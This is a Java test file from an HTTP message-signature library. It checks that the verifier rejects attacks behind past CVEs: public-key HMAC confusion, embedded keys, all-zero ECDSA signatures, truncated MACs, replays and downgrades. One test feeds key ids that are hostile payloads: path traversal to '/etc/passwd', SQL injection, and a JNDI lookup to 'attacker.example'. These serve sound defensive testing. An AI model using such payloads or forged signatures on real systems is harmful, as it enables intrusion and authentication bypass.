// SPDX-License-Identifier: Apache-2.0
package dev.signet.http;

import static dev.signet.http.Fixture.BODY;
import static dev.signet.http.Fixture.CLOCK;
import static dev.signet.http.Fixture.KEY;
import static dev.signet.http.Fixture.NOW;
import static dev.signet.http.Fixture.OTHER_KEY;
import static dev.signet.http.Fixture.assertInvalid;
import static dev.signet.http.Fixture.assertRejected;
import static dev.signet.http.Fixture.claiming;
import static dev.signet.http.Fixture.created;
import static dev.signet.http.Fixture.request;
import static dev.signet.http.Fixture.signed;
import static dev.signet.http.Fixture.signer;
import static dev.signet.http.Fixture.verifier;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.signet.core.Algorithm;
import dev.signet.core.KeyResolver;
import dev.signet.core.Limits;
import dev.signet.core.Reason;
import dev.signet.core.ReplayGuard;
import dev.signet.core.SecurityPolicy;
import dev.signet.core.SigningKey;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.FileSystems;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermission;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicReference;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Attacks that other libraries fell for, where no test of a single class shows that they fail here. */
class PastVulnerabilitiesTest implements Ways {
    private static final String COVERED = "(\"@method\" \"@target-uri\" \"content-type\" \"content-digest\")";

    // ---- keys ------------------------------------------------------------------------------------------------------

    /** CVE-2016-10555: the public key, which everybody has, as the secret of a MAC. */
    @Test
    void verify_macMadeWithThePublicKey_isRejected() throws Exception {
        SigningKey rsa = SigningKey.generate(Algorithm.RS256).withId("client-1");
        HttpVerifier verifier = HttpVerifier.builder(KeyResolver.of(rsa.verificationKey()))
                .clock(CLOCK)
                .build();
        byte[] secret = rsa.verificationKey().publicKey().orElseThrow().getEncoded();
        HttpMessage silent = withMac(secret, created());
        assertRejected(Reason.SIGNATURE_INVALID, () -> verify(verifier, silent));
        HttpMessage insisting = withMac(secret, created() + ";alg=\"hmac-sha256\"");
        assertRejected(Reason.ALGORITHM_MISMATCH, () -> verify(verifier, insisting));
    }

    /** CVE-2018-0114: a key that the message brings along. */
    @ParameterizedTest
    @ValueSource(strings = {"signature-key", "client-cert", "jwk", "x-public-key"})
    void verify_keyInTheMessage_isNotUsed(String field) {
        SigningKey attackers = SigningKey.generate(Algorithm.ES256);
        HttpMessageBuilder message =
                request().field(field, attackers.verificationKey().toPem().replace("\n", ""));
        HttpMessage signed = message.fields(
                        HttpSigner.builder(attackers).clock(CLOCK).build().sign(message.build(), BODY))
                .build();
        assertRejected(Reason.KEY_UNKNOWN, () -> verify(verifier().build(), signed, BODY));
    }

    /** Key ids that file systems, databases and templates would make something of. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../../../dev/null",
                "/etc/passwd",
                "' OR '1'='1",
                "https://attacker.example/keys",
                "${jndi:ldap://attacker.example}",
                "CLIENT-1",
                " client-1",
                "client-1 "
            })
    void verify_keyIdWithAMeaning_isOnlyLookedUp(String keyId) {
        List<String> asked = new ArrayList<>();
        HttpVerifier verifier = HttpVerifier.builder(id -> {
                    asked.add(id);
                    return id.equals("client-1") ? Optional.of(KEY.verificationKey()) : Optional.empty();
                })
                .clock(CLOCK)
                .build();
        assertRejected(Reason.KEY_UNKNOWN, () -> verify(verifier, signed(signer().keyId(keyId), BODY), BODY));
        assertThat(asked).containsExactly(keyId);
    }

    /** CVE-2022-21449 and its like, seen from a message. */
    @ParameterizedTest
    @ValueSource(ints = {0, 1, 63, 64, 65, 128})
    void verify_ecdsaSignatureOfZeros_isRejected(int length) {
        assertEcdsaRejected(new byte[length]);
    }

    /** The same, in DER, as the first exploits had it. */
    @Test
    void verify_ecdsaSignatureOfZerosInDer_isRejected() {
        assertEcdsaRejected(HexFormat.of().parseHex("3006020100020100"));
    }

    /** CVE-2009-0217: a MAC cut down to what can be guessed. */
    @Test
    void verify_truncatedMac_isRejected() {
        HttpMessage whole = signed();
        String value = whole.fieldValues("signature").get(0);
        byte[] mac = Base64.getDecoder().decode(value.substring(5, value.length() - 1));
        for (int length = 0; length < mac.length; length++) {
            String cut = Base64.getEncoder().encodeToString(java.util.Arrays.copyOf(mac, length));
            HttpMessage message = request()
                    .field("content-digest", whole.fieldValues("content-digest").get(0))
                    .field(
                            "signature-input",
                            whole.fieldValues("signature-input").get(0))
                    .field("signature", "sig=:" + cut + ":")
                    .build();
            assertRejected(Reason.SIGNATURE_INVALID, () -> verify(verifier().build(), message, BODY));
        }
    }

    // ---- responses -------------------------------------------------------------------------------------------------

    /** A good response to one request, given in answer to another. */
    @Test
    void verify_responseToAnotherRequest_isRejected() {
        HttpMessage asked = signed();
        // Of equal method, target and content: only the signature tells them apart.
        HttpMessage other = signed();
        HttpVerifier verifier = verifier()
                .signature(SignaturePolicy.responses2026())
                .ignoreReplay()
                .build();
        SignatureFields fields =
                signer().build().sign(HttpMessage.response(200).answering(asked).build(), BODY);
        verify(
                        verifier,
                        HttpMessage.response(200)
                                .answering(asked)
                                .fields(fields)
                                .build(),
                        BODY)
                .close();
        assertRejected(
                Reason.SIGNATURE_INVALID,
                () -> verify(
                        verifier,
                        HttpMessage.response(200)
                                .answering(other)
                                .fields(fields)
                                .build(),
                        BODY));
        assertRejected(
                Reason.COMPONENT_UNAVAILABLE,
                () -> verify(verifier, HttpMessage.response(200).fields(fields).build(), BODY));
        assertRejected(
                Reason.SIGNATURE_INVALID,
                () -> verify(
                        verifier,
                        HttpMessage.response(201)
                                .answering(asked)
                                .fields(fields)
                                .build(),
                        BODY));
    }

    @Test
    void verify_responseThatDoesNotCoverItsRequest_isRejected() {
        HttpMessage asked = signed();
        SignatureFields fields = signer().cover(Component.STATUS, Component.CONTENT_DIGEST)
                .build()
                .sign(HttpMessage.response(200).answering(asked).build(), BODY);
        HttpMessage response =
                HttpMessage.response(200).answering(asked).fields(fields).build();
        HttpVerifier verifier =
                verifier().signature(SignaturePolicy.responses2026()).build();
        assertRejected(Reason.COMPONENT_NOT_COVERED, () -> verify(verifier, response, BODY));
    }

    // ---- replay ----------------------------------------------------------------------------------------------------

    /** A store that counts from now would forget a message from the near future before the verifier does. */
    @Test
    void verify_messageFromTheNearFuture_isAReplayForAllItsLife() {
        AtomicReference<Instant> now = new AtomicReference<>(NOW.minusSeconds(30));
        HttpVerifier verifier =
                HttpVerifier.builder(Fixture.KEYS).clock(now::get).build();
        HttpMessage message = signed();
        verify(verifier, message, BODY).close();
        for (int age : new int[] {0, 270, 299, 300}) {
            now.set(NOW.plusSeconds(age));
            assertRejected(Reason.REPLAYED, () -> verify(verifier, message, BODY));
        }
        now.set(NOW.plusSeconds(301));
        assertRejected(Reason.TOO_OLD, () -> verify(verifier, message, BODY));
    }

    /** Nonces of one client are nothing to another: nobody can use up someone else's. */
    @Test
    void verify_nonceThatAnotherKeyUsed_isFresh() {
        HttpVerifier verifier =
                verifier().replayGuard(ReplayGuard.inMemory(10, 5, CLOCK)).build();
        HttpMessage first = signed(signer().nonces(() -> "n-1"), BODY);
        HttpMessage second = signed(HttpSigner.builder(OTHER_KEY).clock(CLOCK).nonces(() -> "n-1"), BODY);
        verify(verifier, first, BODY).close();
        verify(verifier, second, BODY).close();
        assertRejected(Reason.REPLAYED, () -> verify(verifier, first, BODY));
        assertRejected(Reason.REPLAYED, () -> verify(verifier, second, BODY));
    }

    // ---- what is remembered
    // ------------------------------------------------------------------------------------------

    /** What a verifier keeps of an accepted message must not smooth the way for a malformed one. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "s=" + COVERED + "\"x\"",
                "s=" + COVERED + "x",
                "s=" + COVERED + ")",
                "s=" + COVERED + ";created=1;created=2",
                "s=" + COVERED + ", s=" + COVERED,
                "s=" + COVERED + ",",
                "s=(" + COVERED + ")",
                "s=" + COVERED + COVERED,
                "s=?1" + COVERED
            })
    void verify_malformedAfterAGoodOne_isStillInvalid(String signatureInput) {
        HttpVerifier verifier = verifier().ignoreReplay().build();
        HttpSigner.Builder signer = signer().cover(
                        Component.METHOD,
                        Component.TARGET_URI,
                        Component.field("content-type"),
                        Component.CONTENT_DIGEST);
        for (int i = 0; i < 3; i++) {
            verify(verifier, signed(signer, BODY), BODY).close();
        }
        String signature = "s=:" + "A".repeat(43) + "=:";
        assertInvalid(() -> verify(verifier, claiming(signatureInput, signature), BODY));
    }

    /** CVE-2020-8908 and CVE-2023-2976: temporary files that everybody on the machine can read. */
    @Test
    void verify_spooledBody_isTheOwnersOnly() throws IOException {
        assumeTrue(
                FileSystems.getDefault().supportedFileAttributeViews().contains("posix"),
                "this file system knows no owners");
        HttpVerifier verifier = verifier()
                .policy(SecurityPolicy.recommended2026()
                        .withLimits(Limits.recommended2026()
                                .withMaxBodyBytes(1 << 20)
                                .withMaxBodyBytesInMemory(4)))
                .build();
        try (VerifiedMessage verified = verify(verifier, signed(), new ByteArrayInputStream(BODY))) {
            assertThat(verified.isBodyCovered()).isTrue();
            Map<String, Path> spools = Spools.paths();
            assertThat(spools).isNotEmpty();
            for (Path spool : spools.values()) {
                assertThat(Files.getPosixFilePermissions(spool))
                        .isSubsetOf(PosixFilePermission.OWNER_READ, PosixFilePermission.OWNER_WRITE);
            }
        }
    }

    // ---- downgrades ------------------------------------------------------------------------------------------------

    /** Lowered demands stay bounded by the security policy. */
    @Test
    void verify_policyWithoutDemands_stillChecksTimeKeyAndReplay() {
        SignaturePolicy lax = SignaturePolicy.recommended2026()
                .ignoreAllComponents()
                .ignore(SignatureParameters.Name.CREATED)
                .maxAge(Duration.ofDays(1000));
        HttpVerifier verifier = verifier().signature(lax).build();
        HttpMessage message = signed(signer().cover(Component.METHOD), BODY);
        verify(verifier, message, BODY).close();
        assertRejected(Reason.REPLAYED, () -> verify(verifier, message, BODY));
        HttpVerifier later = verifier()
                .signature(lax)
                .clock(java.time.InstantSource.fixed(NOW.plusSeconds(301)))
                .build();
        assertRejected(Reason.TOO_OLD, () -> verify(later, message, BODY));
        assertRejected(Reason.KEY_UNKNOWN, () -> verify(verifier, signed(signer().keyId("x"), BODY), BODY));
    }

    private void assertEcdsaRejected(byte[] signature) {
        SigningKey key = SigningKey.generate(Algorithm.ES256).withId("client-1");
        HttpVerifier verifier = HttpVerifier.builder(KeyResolver.of(key.verificationKey()))
                .clock(CLOCK)
                .build();
        HttpMessage message = claiming(
                "s=(\"@method\" \"@target-uri\" \"content-type\")" + created(),
                "s=:" + Base64.getEncoder().encodeToString(signature) + ":");
        assertRejected(Reason.SIGNATURE_INVALID, () -> verify(verifier, message));
    }

    private static HttpMessage withMac(byte[] secret, String parameters) throws Exception {
        String input = "s=(\"@method\" \"@target-uri\" \"content-type\")" + parameters;
        HttpMessage claim = claiming(input, "s=:AAAA:");
        String base = verifier().build().unverifiedSignatureBase(claim, "s");
        Mac mac = Mac.getInstance("HmacSHA256");
        mac.init(new SecretKeySpec(secret, "HmacSHA256"));
        byte[] tag = mac.doFinal(base.getBytes(StandardCharsets.US_ASCII));
        return claiming(input, "s=:" + Base64.getEncoder().encodeToString(tag) + ":");
    }
}
